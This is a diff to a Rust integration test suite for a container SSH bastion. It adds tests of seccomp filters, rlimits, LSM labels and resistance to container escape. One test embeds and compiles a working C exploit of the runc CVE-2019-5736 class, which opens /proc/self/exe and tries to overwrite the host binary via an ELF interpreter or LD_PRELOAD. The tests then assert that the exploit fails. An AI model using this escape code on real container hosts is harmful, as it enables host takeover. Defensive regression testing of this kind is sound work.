@@ -768,13 +768,24 @@ fn shell_that_lost_its_setuid_bit_refuses_with_a_sentence_and_an_event() {
 // ----- no core dumps -----------------------------------------------------------------
 
 /// Pids running this test's porthole-shell binary.
+/// This test's porthole-shell processes: they run from the sealed memfd
+/// copy (`/memfd:porthole-shell`), started from this test's binary (the
+/// origin the re-exec put in their initial environment).
 fn shell_pids(host: &TestHost) -> Vec<i32> {
-    let bin = host.bin_dir().join("porthole-shell");
+    let origin = format!(
+        "PORTHOLE_SHELL_ORIGIN={}",
+        host.bin_dir().join("porthole-shell").display()
+    );
     fs::read_dir("/proc")
         .unwrap()
         .filter_map(|e| e.ok())
         .filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok())
-        .filter(|pid| fs::read_link(format!("/proc/{pid}/exe")).is_ok_and(|p| p == bin))
+        .filter(|pid| {
+            fs::read_link(format!("/proc/{pid}/exe"))
+                .is_ok_and(|p| p.to_string_lossy().starts_with("/memfd:porthole-shell"))
+                && fs::read(format!("/proc/{pid}/environ"))
+                    .is_ok_and(|env| env.split(|&b| b == 0).any(|kv| kv == origin.as_bytes()))
+        })
         .collect()
 }
 
@@ -1105,4 +1116,415 @@ fn session_sees_only_container_processes_and_its_root() {
     let want = format!("{}:{}", meta.dev(), meta.ino());
     let line = out.lines().find(|l| l.starts_with("ROOT=")).unwrap();
     assert_eq!(line, format!("ROOT={want} PID1ROOT={want}"), "{out}");
+}
+
+// ----- issue 12: the host binary, seccomp, LSM labels, limits --------------
+
+/// The attack of the runc CVE-2019-5736 class, as raw syscalls (no libc:
+/// it runs as the image's ELF interpreter or as an LD_PRELOAD constructor).
+/// It opens `/proc/self/exe` (the binary that re-ran itself through
+/// `#!/proc/self/exe`), keeps it as fd 100, forks a detached child (own
+/// session, so the end of the ssh session does not take it) that execs
+/// `/pwn-writer`, which tries every 100 ms for 6 s to reopen fd 100 for
+/// writing and overwrite its first bytes: the host file stops being busy
+/// once the session ends. Every outcome is appended to `/pwn.log` in the
+/// container.
+const EXE_ATTACK_C: &str = r#"
+static long sc(long n, long a, long b, long c) {
+    long r;
+    __asm__ volatile ("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c)
+                      : "rcx", "r11", "memory");
+    return r;
+}
+static long slen(const char *s) { long n = 0; while (s[n]) n++; return n; }
+static void logs(const char *s) {
+    long fd = sc(2, (long)"/pwn.log", 01 | 0100 | 02000, 0666);
+    if (fd >= 0) { sc(1, fd, (long)s, slen(s)); sc(3, fd, 0, 0); }
+}
+static void lognum(const char *tag, long v) {
+    char buf[96]; int i = 0;
+    while (tag[i] && i < 60) { buf[i] = tag[i]; i++; }
+    if (v < 0) { buf[i++] = '-'; v = -v; }
+    char d[24]; int n = 0;
+    do { d[n++] = '0' + v % 10; v /= 10; } while (v && n < 20);
+    while (n) buf[i++] = d[--n];
+    buf[i++] = '\n'; buf[i] = 0;
+    logs(buf);
+}
+/* The writer: a program of its own, so that it does not keep the target
+ * busy the way a fork of a process running it would. */
+static void writer(void) {
+    for (int k = 0; k < 60; k++) {
+        long w = sc(2, (long)"/proc/self/fd/100", 01, 0);   /* O_WRONLY */
+        if (w >= 0) {
+            long r = sc(1, w, (long)"PWNED", 5);
+            lognum("write ", r);
+            sc(3, w, 0, 0);
+            if (r == 5) { logs("pwned\n"); break; }
+        } else {
+            lognum("open-for-write ", w);
+        }
+        struct { long s, ns; } ts = { 0, 100000000 };
+        sc(35, (long)&ts, 0, 0);
+    }
+}
+static void attack(void) {
+    long exe = sc(2, (long)"/proc/self/exe", 0, 0);
+    lognum("exe-open ", exe);
+    if (exe < 0) return;
+    sc(33, exe, 100, 0);                       /* dup2 to fd 100 */
+    if (sc(57, 0, 0, 0) != 0) return;          /* fork; the parent goes on */
+    sc(112, 0, 0, 0);                          /* setsid */
+    sc(3, 0, 0, 0); sc(3, 1, 0, 0); sc(3, 2, 0, 0);  /* let the session end */
+    char *argv[] = { "/pwn-writer", 0 };
+    char *envp[] = { 0 };
+    sc(59, (long)"/pwn-writer", (long)argv, (long)envp);
+    lognum("exec-writer ", -1);
+    sc(60, 1, 0, 0);
+}
+#if defined(AS_WRITER)
+void _start(void) { writer(); sc(231, 0, 0, 0); }
+#elif defined(AS_INTERP)
+void _start(void) { attack(); sc(231, 0, 0, 0); }
+#else
+__attribute__((constructor)) static void init(void) { attack(); }
+#endif
+"#;
+
+#[derive(Clone, Copy)]
+enum AttackPart {
+    /// The image's ELF interpreter (static, no libc).
+    Interpreter,
+    /// An LD_PRELOAD object with a constructor.
+    Preload,
+    /// `/pwn-writer` (static, no libc).
+    Writer,
+}
+
+/// Builds one part of the attack with `cc`; returns its bytes.
+fn build_attack(dir: &Path, part: AttackPart) -> Vec<u8> {
+    let src = dir.join("attack.c");
+    fs::write(&src, EXE_ATTACK_C).unwrap();
+    let (name, flags): (&str, &[&str]) = match part {
+        AttackPart::Interpreter => ("interp", &["-DAS_INTERP", "-static", "-no-pie"]),
+        AttackPart::Preload => ("preload.so", &["-shared", "-fPIC"]),
+        AttackPart::Writer => ("writer", &["-DAS_WRITER", "-static", "-no-pie"]),
+    };
+    let out = dir.join(name);
+    let st = Command::new("cc")
+        .args(["-O1", "-nostdlib", "-fno-stack-protector", "-fno-builtin"])
+        .args(flags)
+        .arg("-o")
+        .arg(&out)
+        .arg(&src)
+        .status()
+        .unwrap();
+    assert!(st.success(), "cc failed for the attack's {name}");
+    fs::read(&out).unwrap()
+}
+
+/// The shared objects the session shell links (`ldd`), as (path, bytes):
+/// an image carrying them can run the shell with its own loader.
+fn shell_libraries() -> Vec<(String, Vec<u8>)> {
+    let out = Command::new("ldd")
+        .arg(env!("CARGO_BIN_EXE_porthole-shell"))
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout)
+        .lines()
+        .filter_map(|l| {
+            let l = l.trim();
+            let path = match l.split_once(" => ") {
+                Some((_, rest)) => rest.split_whitespace().next()?,
+                None => l.split_whitespace().next()?,
+            };
+            path.starts_with('/')
+                .then(|| (path.to_owned(), fs::read(path).unwrap()))
+        })
+        .collect()
+}
+
+/// Logs in to a root instance whose login shell is `#!/proc/self/exe`,
+/// waits until the attack has tried for 3 s after the session ended, and
+/// checks the installed shell is byte-identical and still 4750.
+fn exe_overwrite_is_impossible(opts: InstanceOpts) {
+    let dir = tempfile::tempdir().unwrap();
+    let opts = opts.file(
+        "/pwn-writer",
+        build_attack(dir.path(), AttackPart::Writer),
+        0o755,
+    );
+    let (host, key) = bastion();
+    let installed = host.dir().join("bin/porthole-shell");
+    let before = fs::read(&installed).unwrap();
+    let mode_before = fs::metadata(&installed).unwrap().mode();
+    let inst = Instance::start(
+        &host,
+        SVC,
+        "aaaaa",
+        opts.root_user()
+            .login_shell("/evil")
+            .file("/evil", "#!/proc/self/exe\n", 0o755),
+    );
+    let r = host.ssh(LOGIN, &key, &[]);
+    let log_path = inst.rootfs().join("pwn.log");
+    let attempts = |text: &str| {
+        text.lines()
+            .filter(|l| l.starts_with("write ") || l.starts_with("open-for-write "))
+            .count()
+    };
+    // The session is over (ssh returned); 30 more tries = 3 s without it.
+    let seen = common::util::wait_for(Duration::from_secs(10), || {
+        let text = fs::read_to_string(&log_path).unwrap_or_default();
+        (attempts(&text) >= 30 || text.contains("pwned")).then_some(text)
+    });
+    let text = seen.unwrap_or_else(|| {
+        panic!(
+            "the attack never ran or stopped early: {:?}\n{}",
+            fs::read_to_string(&log_path),
+            r.describe()
+        )
+    });
+    // It really ran, as the container's root, on /proc/self/exe.
+    let opened = text
+        .lines()
+        .find_map(|l| l.strip_prefix("exe-open "))
+        .and_then(|v| v.parse::<i64>().ok());
+    assert!(matches!(opened, Some(fd) if fd >= 0), "{text}");
+    assert!(!text.contains("pwned"), "the exe was written:\n{text}");
+    assert!(
+        text.lines()
+            .filter(|l| l.starts_with("write "))
+            .all(|l| l == format!("write -{}", libc::EPERM)),
+        "every write through the sealed copy fails with EPERM:\n{text}"
+    );
+    assert!(
+        fs::read(&installed).unwrap() == before,
+        "the installed porthole-shell changed"
+    );
+    assert_eq!(fs::metadata(&installed).unwrap().mode(), mode_before);
+    drop(inst);
+}
+
+#[test]
+fn proc_self_exe_login_shell_with_the_images_own_interpreter_cannot_write_the_host_shell() {
+    let dir = tempfile::tempdir().unwrap();
+    let interp = build_attack(dir.path(), AttackPart::Interpreter);
+    exe_overwrite_is_impossible(InstanceOpts::default().file(
+        "/lib64/ld-linux-x86-64.so.2",
+        interp,
+        0o755,
+    ));
+}
+
+#[test]
+fn proc_self_exe_login_shell_with_ld_preload_cannot_write_the_host_shell() {
+    let dir = tempfile::tempdir().unwrap();
+    let preload = build_attack(dir.path(), AttackPart::Preload);
+    let mut opts = InstanceOpts::default()
+        .env("LD_PRELOAD=/evil.so")
+        .file("/evil.so", preload, 0o755);
+    // The image carries the real loader and libraries of the shell, so the
+    // shell really starts inside and its loader honours LD_PRELOAD.
+    for (path, bytes) in shell_libraries() {
+        opts = opts.file(&path, bytes, 0o755);
+    }
+    exe_overwrite_is_impossible(opts);
+}
+
+/// The platform's profile in the tests: everything allowed but `unshare`
+/// and `keyctl` (EPERM), the shape of Docker's default for these calls.
+fn deny_unshare_and_keyctl() -> serde_json::Value {
+    serde_json::json!({
+        "defaultAction": "SCMP_ACT_ALLOW",
+        "architectures": ["SCMP_ARCH_X86_64", "SCMP_ARCH_X86", "SCMP_ARCH_X32"],
+        "syscalls": [{"names": ["unshare", "keyctl"], "action": "SCMP_ACT_ERRNO"}]
+    })
+}
+
+const SECCOMP_PROBE: &str = "grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status; \
+     unshare -U true 2>&1; echo unshare=$?";
+
+#[test]
+fn session_gets_the_instances_seccomp_filter_exactly_as_runc_exec() {
+    let (host, key) = bastion();
+    // With no_new_privs (runc's default) the filter goes in last; without
+    // it (Docker's default) before the uid change: both paths.
+    for (slug, nnp) in [("nnpon", true), ("nnpof", false)] {
+        let inst = Instance::start(
+            &host,
+            SVC,
+            slug,
+            InstanceOpts::default()
+                .root_user()
+                .process("noNewPrivileges", nnp.into())
+                .linux("seccomp", deny_unshare_and_keyctl()),
+        );
+        let r = host.ssh(&format!("{SVC}-{slug}"), &key, &[SECCOMP_PROBE]);
+        assert!(r.success(), "{}", r.describe());
+        let session = r.stdout_str();
+        let exec = inst.exec(&["sh", "-c", SECCOMP_PROBE]);
+        let runc_exec = String::from_utf8_lossy(&exec.stdout).into_owned();
+        assert!(session.contains("Seccomp:\t2"), "{session}");
+        assert!(session.contains("unshare=1"), "{session}");
+        assert!(
+            session.contains(&format!("NoNewPrivs:\t{}", u8::from(nnp))),
+            "{session}"
+        );
+        assert_eq!(session, runc_exec, "session and runc exec differ");
+    }
+    // The control: without a filter the same probe succeeds, so the
+    // assertions above can fail.
+    let plain = Instance::start(&host, SVC, "nosec", InstanceOpts::default().root_user());
+    let r = host.ssh(&format!("{SVC}-nosec"), &key, &[SECCOMP_PROBE]);
+    assert!(r.stdout_str().contains("Seccomp:\t0"), "{}", r.describe());
+    assert!(r.stdout_str().contains("unshare=0"), "{}", r.describe());
+    drop(plain);
+}
+
+#[test]
+fn dockers_layout_rootfs_outside_the_bundle_still_gets_the_filter() {
+    let (host, key) = bastion();
+    let inst = Instance::start(
+        &host,
+        SVC,
+        "aaaaa",
+        InstanceOpts::default()
+            .root_user()
+            .rootfs_outside_bundle()
+            .linux("seccomp", deny_unshare_and_keyctl()),
+    );
+    assert!(!inst.rootfs().starts_with(inst.bundle()));
+    let r = host.ssh(LOGIN, &key, &[SECCOMP_PROBE]);
+    assert!(r.success(), "{}", r.describe());
+    assert!(r.stdout_str().contains("Seccomp:\t2"), "{}", r.describe());
+    assert!(r.stdout_str().contains("unshare=1"), "{}", r.describe());
+    // A config.json naming another root filesystem is not this container's.
+    let config = inst.bundle().join("config.json");
+    let original = fs::read(&config).unwrap();
+    let mut spec: serde_json::Value = serde_json::from_slice(&original).unwrap();
+    spec["root"]["path"] = "/somewhere/else".into();
+    fs::write(&config, serde_json::to_vec(&spec).unwrap()).unwrap();
+    assert_confinement_refusal(&host, &key, LOGIN, "another root filesystem");
+    fs::write(&config, &original).unwrap();
+}
+
+/// Asserts a login to `login` is refused with `needle` in the sentence and
+/// a `session.rejected` event with reason `confinement`.
+fn assert_confinement_refusal(host: &TestHost, key: &ClientKey, login: &str, needle: &str) {
+    let r = host.ssh(login, key, &["echo entered"]);
+    assert!(!r.success(), "{}", r.describe());
+    assert!(!r.stdout_str().contains("entered"), "{}", r.describe());
+    let err = r.stderr_str();
+    assert!(err.contains("cannot be entered safely"), "{err}");
+    assert!(err.contains(needle), "{needle:?} not in {err}");
+    host.expect_event(
+        "session.rejected/confinement",
+        |e| {
+            e.is(
+                "session.rejected",
+                &[("reason", "confinement"), ("user", login)],
+            ) && e.str("message").is_some_and(|m| m.contains(needle))
+        },
+        WAIT,
+    );
+}
+
+#[test]
+fn filter_porthole_cannot_reproduce_is_refused_with_a_sentence() {
+    let (host, key) = bastion();
+    // runc skips a syscall name its libseccomp does not know; leaving out
+    // a deny rule would loosen the filter, so porthole refuses.
+    let mut profile = deny_unshare_and_keyctl();
+    profile["syscalls"][0]["names"]
+        .as_array_mut()
+        .unwrap()
+        .push("porthole_future_syscall".into());
+    let inst = Instance::start(
+        &host,
+        SVC,
+        "aaaaa",
+        InstanceOpts::default().linux("seccomp", profile),
+    );
+    assert_confinement_refusal(&host, &key, LOGIN, "porthole_future_syscall");
+    drop(inst);
+}
+
+#[test]
+fn filtered_instance_whose_bundle_lost_its_profile_or_trust_is_refused() {
+    let (host, key) = bastion();
+    let inst = Instance::start(
+        &host,
+        SVC,
+        "aaaaa",
+        InstanceOpts::default().linux("seccomp", deny_unshare_and_keyctl()),
+    );
+    let config = inst.bundle().join("config.json");
+    let original = fs::read(&config).unwrap();
+    // Anyone but root could change it: not trusted.
+    fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o666)).unwrap();
+    assert_confinement_refusal(&host, &key, LOGIN, "writable by group or others");
+    fs::set_permissions(&config, std::os::unix::fs::PermissionsExt::from_mode(0o644)).unwrap();
+    // The init runs filtered but the bundle no longer says how.
+    let mut spec: serde_json::Value = serde_json::from_slice(&original).unwrap();
+    spec["linux"].as_object_mut().unwrap().remove("seccomp");
+    fs::write(&config, serde_json::to_vec(&spec).unwrap()).unwrap();
+    assert_confinement_refusal(&host, &key, LOGIN, "does not describe");
+    // Restored, the same instance is entered: the refusals were the cause.
+    fs::write(&config, &original).unwrap();
+    let r = host.ssh(LOGIN, &key, &["grep Seccomp: /proc/self/status"]);
+    assert!(r.stdout_str().contains("Seccomp:\t2"), "{}", r.describe());
+    drop(inst);
+}
+
+#[test]
+fn session_gets_the_instances_rlimits_and_oom_score_adj() {
+    let (host, key) = bastion();
+    let inst = Instance::start(
+        &host,
+        SVC,
+        "aaaaa",
+        InstanceOpts::default()
+            .app_user()
+            .process(
+                "rlimits",
+                serde_json::json!([
+                    {"type": "RLIMIT_NOFILE", "soft": 123, "hard": 456},
+                    {"type": "RLIMIT_NPROC", "soft": 777, "hard": 888}
+                ]),
+            )
+            .process("oomScoreAdj", 345.into()),
+    );
+    let probe = "ulimit -n; ulimit -Hn; ulimit -u; cat /proc/self/oom_score_adj";
+    let r = host.ssh(LOGIN, &key, &[probe]);
+    assert!(r.success(), "{}", r.describe());
+    assert_eq!(r.stdout_str(), "123\n456\n777\n345\n", "{}", r.describe());
+    let exec = inst.exec(&["sh", "-c", probe]);
+    assert_eq!(String::from_utf8_lossy(&exec.stdout), r.stdout_str());
+}
+
+#[test]
+fn session_gets_the_instances_lsm_label_where_the_host_has_one() {
+    let lsm = fs::read_to_string("/sys/kernel/security/lsm").unwrap_or_default();
+    if !lsm
+        .split(',')
+        .any(|l| l.trim() == "apparmor" || l.trim() == "selinux")
+    {
+        eprintln!(
+            "SKIPPED: this host runs no labelling LSM (/sys/kernel/security/lsm: {:?}); \
+             the label is applied from the init's attr/current where one runs",
+            lsm.trim()
+        );
+        return;
+    }
+    let (host, key) = bastion();
+    let inst = instance(&host);
+    let init_label =
+        fs::read_to_string(format!("/proc/{}/attr/current", inst.init_pid())).unwrap_or_default();
+    let r = host.ssh(LOGIN, &key, &["cat /proc/self/attr/current"]);
+    assert!(r.success(), "{}", r.describe());
+    assert_eq!(
+        r.stdout_str().trim_end_matches(['\0', '\n']),
+        init_label.trim_end_matches(['\0', '\n'])
+    );
 }
